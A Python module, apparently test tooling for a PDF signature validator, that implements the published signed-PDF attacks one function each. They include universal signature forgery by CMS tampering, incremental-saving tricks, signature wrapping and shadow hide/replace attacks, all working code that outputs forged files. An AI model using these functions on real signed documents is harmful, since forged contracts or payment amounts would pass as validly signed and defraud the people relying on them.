"""
What can be done to a signed PDF afterwards: the published attacks, one function each.

Each takes the bytes of a signed file and returns those of the forged one. Names and kinds follow
Mladenov et al., "1 Trillion Dollar Refund" (2019): universal signature forgery, incremental
saving, signature wrapping; Mainka et al., "Shadow Attacks" (2021) and "Breaking the
Specification" (2021): hide, replace, hide and replace, annotations over certified files.
"""

from __future__ import annotations

import io
import re

from asn1crypto import cms, x509
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import enumerate_sig_fields
from signed_pdfs import written


def gap(pdf, which=-1):
    """Return where the hexadecimal string of a signature starts and ends, with its brackets."""
    found = list(re.finditer(rb"/ByteRange ?\[(\d+) (\d+) (\d+) (\d+)", pdf))
    _, length, second, _ = map(int, found[which].groups())
    return length, second


def flipped(pdf, offset):
    """Flip one bit."""
    changed = bytearray(pdf)
    changed[offset] ^= 1
    return bytes(changed)


def flipped_content(pdf):
    """Flip a bit of the first page's stream."""
    return flipped(pdf, pdf.index(b"stream\n") + 20)


def with_cms(pdf, change):
    """Put another CMS into the gap: ``change`` gets and returns a ContentInfo."""
    start, end = gap(pdf)
    message = cms.ContentInfo.load(bytes.fromhex(pdf[start + 1 : end - 1].decode()))
    encoded = change(message).dump(force=True).hex().encode()
    assert len(encoded) <= end - start - 2
    return pdf[: start + 1] + encoded.ljust(end - start - 2, b"0") + pdf[end - 1 :]


def flipped_signature(pdf):
    """Flip a bit of the raw signature."""
    return with_cms(pdf, _broken)


def _broken(message):
    information = message["content"]["signer_infos"][0]
    raw = bytearray(information["signature"].native)
    raw[-1] ^= 1
    information["signature"] = bytes(raw)
    return message


def swapped_certificate(pdf, certificate):
    """Put somebody else's certificate beside the signature and name it as the signer's."""

    def swap(message):
        other = x509.Certificate.load(certificate)
        content = message["content"]
        content["certificates"] = [other]
        content["signer_infos"][0]["sid"] = cms.SignerIdentifier(
            "issuer_and_serial_number",
            {"issuer": other.issuer, "serial_number": other.serial_number},
        )
        return message

    return with_cms(pdf, swap)


def no_certificate(pdf):
    """Take all certificates out of the signature."""

    def strip(message):
        message["content"]["certificates"] = []
        return message

    return with_cms(pdf, strip)


def two_signers(pdf):
    """Name the signer twice in one signature."""

    def double(message):
        content = message["content"]
        content["certificates"] = []  # to make room
        content["signer_infos"] = [content["signer_infos"][0], content["signer_infos"][0].copy()]
        return message

    return with_cms(pdf, double)


def bringing_its_content(pdf):
    """Let the signature carry something it is over."""

    def bring(message):
        message["content"]["encap_content_info"]["content"] = b"anything"
        return message

    return with_cms(pdf, bring)


def signature_of(pdf, other):
    """Put the signature of ``other`` into ``pdf``."""
    start, end = gap(other)
    foreign = cms.ContentInfo.load(bytes.fromhex(other[start + 1 : end - 1].decode()))
    return with_cms(pdf, lambda _: foreign)


def updated(pdf, change):
    """Append a revision: ``change`` gets pyHanko's incremental writer."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    change(writer)
    return written(writer)


def page_changed(pdf):
    """Append a revision that shows another text on the first page."""

    def change(writer):
        ref, _ = writer.find_page_for_modification(0)
        page = ref.get_object()
        text = generic.StreamObject(stream_data=b"BT /F1 30 Tf 50 500 Td (Forged) Tj ET")
        page["/Contents"] = writer.add_object(text)
        writer.mark_update(ref)

    return updated(pdf, change)


def page_added(pdf):
    """Append a revision with one page more."""

    def change(writer):
        pages = writer.root["/Pages"]
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/Parent"): writer.root.raw_get("/Pages"),
            }
        )
        pages["/Kids"].append(writer.add_object(page))
        pages["/Count"] = generic.NumberObject(int(pages["/Count"]) + 1)
        writer.update_container(pages)

    return updated(pdf, change)


def note_added(pdf):
    """Append a revision with an annotation that covers the first page."""

    def change(writer):
        ref, _ = writer.find_page_for_modification(0)
        page = ref.get_object()
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): _numbers(0, 0, 500, 800),
                pdf_name("/Contents"): generic.TextStringObject("forged"),
            }
        )
        notes = list(page.get("/Annots", []))
        page["/Annots"] = generic.ArrayObject([*notes, writer.add_object(note)])
        writer.mark_update(ref)

    return updated(pdf, change)


def retitled(pdf):
    """Append a revision that changes the document's title and nothing else."""

    def change(writer):
        writer.root["/Lang"] = generic.TextStringObject("en")
        writer.update_root()

    return updated(pdf, change)


def nothing_updated(pdf):
    """Append a revision that writes an object nobody refers to."""
    return updated(pdf, lambda writer: writer.add_object(generic.NumberObject(1)))


def saved_without_xref(pdf):
    """Append an object of the page's number, and no cross-reference: readers repair it."""
    return pdf + b"\n4 0 obj\n<</Type /Page /Contents (forged)>>\nendobj\n"


def saved_with_old_xref(pdf):
    """Append an object and a startxref that points to the signed cross-reference."""
    old = pdf[pdf.rindex(b"startxref") :]
    return saved_without_xref(pdf) + old


def saved_with_broken_xref(pdf):
    """Append an object and a startxref that points to nothing."""
    return saved_without_xref(pdf) + b"startxref\n99999999\n%%EOF\n"


def saved_with_bare_trailer(pdf):
    """Append an object and a trailer without a cross-reference."""
    return saved_without_xref(pdf) + b"trailer\n<</Root 2 0 R>>\n%%EOF\n"


def with_tail(pdf):
    """Append a comment."""
    return pdf + b"% harmless?\n"


def with_start(pdf):
    """Put text before the header."""
    return b"From: somebody\n" + pdf


def cut_off(pdf):
    """Lose the last bytes."""
    return pdf[:-200]


def dictionary_edited(pdf, change):
    """Append a revision that writes the signature's own dictionary anew."""

    def edit(writer):
        for _, value, _ in enumerate_sig_fields(writer, filled_status=True):
            target = value.get_object()
            change(target)
            writer.mark_update(target.container_ref)

    return updated(pdf, edit)


def in_place(pdf, old, new):
    """Write over bytes of the signature's dictionary, at the same length."""
    assert old in pdf
    at = pdf.rindex(old)
    return pdf[:at] + new.ljust(len(old)) + pdf[at + len(old) :]


def ranged(pdf, *numbers):
    """Write over the byte range where it stands."""
    old = re.findall(rb"/ByteRange ?\[[^\]]*\]", pdf)[-1]
    room = len(old) + len(re.search(re.escape(old) + rb"( *)", pdf)[1])
    at = pdf.rindex(old)
    new = b"/ByteRange [" + b" ".join(str(number).encode() for number in numbers) + b"]"
    assert len(new) <= room, (new, room)
    return pdf[:at] + new.ljust(room) + pdf[at + room :]


def wrapped(pdf):
    """
    Move the signed end back and put what is not signed into the gap (signature wrapping).

    The signed bytes stay the same; a new dictionary names the new place of the second range.
    """
    start, end = gap(pdf)
    evil = b"\n9000 0 obj\n(forged)\nendobj\n"
    moved = pdf[:end] + evil + pdf[end:]
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    value = next(value for _, value, _ in enumerate_sig_fields(reader, filled_status=True))
    number = value.get_object().container_ref.idnum
    contents = pdf[start:end]
    second = end + len(evil)
    signature = (
        b"%d 0 obj\n<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 %d %d %d] /Contents %s>>\nendobj\n"
        % (number, start, second, len(pdf) - end, contents)
    )
    at = len(moved)
    table = at + len(signature)
    root = reader.trailer.raw_get("/Root").idnum
    before = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0]) + len(evil)
    return (
        moved
        + signature
        + (
            b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size 9001 /Root %d 0 R /Prev %d>>\n"
            b"startxref\n%d\n%%%%EOF\n" % (number, at, root, before, table)
        )
    )


def repeated(pdf):
    """Sign nothing anew, but let a second field show the first signature."""

    def change(writer):
        name, value, _ = next(enumerate_sig_fields(writer, filled_status=True))
        field = generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Sig"),
                pdf_name("/T"): generic.TextStringObject(name + "-again"),
                pdf_name("/V"): value,
                pdf_name("/Rect"): _numbers(0, 0, 300, 300),
            }
        )
        form = writer.root["/AcroForm"]
        form["/Fields"].append(writer.add_object(field))
        writer.update_container(form["/Fields"])

    return updated(pdf, change)


def with_form(pdf, value="100"):
    """Return an unsigned PDF with a text field, prepared for a shadow."""

    def change(writer):
        ref, _ = writer.find_page_for_modification(0)
        page = ref.get_object()
        field = writer.add_object(
            generic.DictionaryObject(
                {
                    pdf_name("/Type"): pdf_name("/Annot"),
                    pdf_name("/Subtype"): pdf_name("/Widget"),
                    pdf_name("/FT"): pdf_name("/Tx"),
                    pdf_name("/T"): generic.TextStringObject("Amount"),
                    pdf_name("/V"): generic.TextStringObject(value),
                    pdf_name("/Rect"): _numbers(0, 0, 500, 800),
                    pdf_name("/AP"): _appearance(writer, value),
                }
            )
        )
        page["/Annots"] = generic.ArrayObject([field])
        form = generic.DictionaryObject({pdf_name("/Fields"): generic.ArrayObject([field])})
        writer.root["/AcroForm"] = writer.add_object(form)
        writer.update_root()
        writer.mark_update(ref)

    return updated(pdf, change)


def filled(pdf, value="1000000"):
    """Fill the text field: by the letter allowed, and it covers the page (shadow: replace)."""

    def change(writer):
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field["/FT"] == "/Tx":
                field["/V"] = generic.TextStringObject(value)
                field["/AP"] = _appearance(writer, value)
                writer.mark_update(ref.reference)

    return updated(pdf, change)


def with_cover(pdf):
    """Return an unsigned PDF whose first page is covered by a picture (shadow: hide)."""

    def change(writer):
        ref, _ = writer.find_page_for_modification(0)
        page = ref.get_object()
        cover = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _numbers(0, 0, 500, 800),
            },
            stream_data=b"1 g 0 0 500 800 re f",
        )
        resources = page["/Resources"]
        resources["/XObject"] = generic.DictionaryObject(
            {pdf_name("/Cover"): writer.add_object(cover)}
        )
        page["/Resources"] = resources
        drawn = generic.StreamObject(stream_data=b"/Cover Do")
        page["/Contents"] = generic.ArrayObject(
            [page.raw_get("/Contents"), writer.add_object(drawn)]
        )
        writer.mark_update(ref)
        writer.update_container(resources)

    return updated(pdf, change)


def uncovered(pdf):
    """Make the picture empty, so that what it hid is seen (shadow: hide)."""

    def change(writer):
        page = writer.find_page_for_modification(0)[0].get_object()
        objects = page["/Resources"]["/XObject"]
        cover = objects["/Cover"]
        cover._data = b" "
        cover._encoded_data = None
        writer.mark_update(objects.raw_get("/Cover").reference)

    return updated(pdf, change)


def freed(pdf):
    """Mark the hiding picture as free in a cross-reference (shadow: hide)."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    page = reader.root["/Pages"]["/Kids"][0]
    number = page["/Resources"]["/XObject"].raw_get("/Cover").idnum
    root = reader.trailer.raw_get("/Root").idnum
    size = int(reader.trailer["/Size"])
    before = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    return pdf + (
        b"xref\n%d 1\n0000000000 65535 f \ntrailer\n<</Size %d /Root %d 0 R /Prev %d>>\n"
        b"startxref\n%d\n%%%%EOF\n" % (number, size, root, before, len(pdf))
    )


def with_second_tree(pdf):
    """Return an unsigned PDF that keeps a second tree of pages (shadow: hide and replace)."""

    def change(writer):
        page = generic.DictionaryObject({pdf_name("/Type"): pdf_name("/Page")})
        kids = generic.ArrayObject([writer.add_object(page)])
        tree = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Pages"),
                pdf_name("/Kids"): kids,
                pdf_name("/Count"): generic.NumberObject(1),
            }
        )
        writer.root["/Hidden"] = writer.add_object(tree)
        writer.update_root()

    return updated(pdf, change)


def trees_swapped(pdf):
    """Show the second tree of pages instead of the first (shadow: hide and replace)."""

    def change(writer):
        writer.root["/Pages"] = writer.root.raw_get("/Hidden")
        writer.update_root()

    return updated(pdf, change)


def font_changed(pdf):
    """Override the font of the page, so that other letters are seen (shadow: replace)."""

    def change(writer):
        page = writer.find_page_for_modification(0)[0].get_object()
        fonts = page["/Resources"]["/Font"]
        name = next(iter(fonts))
        fonts[name]["/BaseFont"] = pdf_name("/ZapfDingbats")
        writer.mark_update(fonts.raw_get(name).reference)

    return updated(pdf, change)


def _appearance(writer, value):
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _numbers(0, 0, 500, 800),
        },
        stream_data=b"1 g 0 0 500 800 re f BT (%s) Tj ET" % value.encode(),
    )
    return generic.DictionaryObject({pdf_name("/N"): writer.add_object(stream)})


def _numbers(*numbers):
    return generic.ArrayObject(map(generic.NumberObject, numbers))
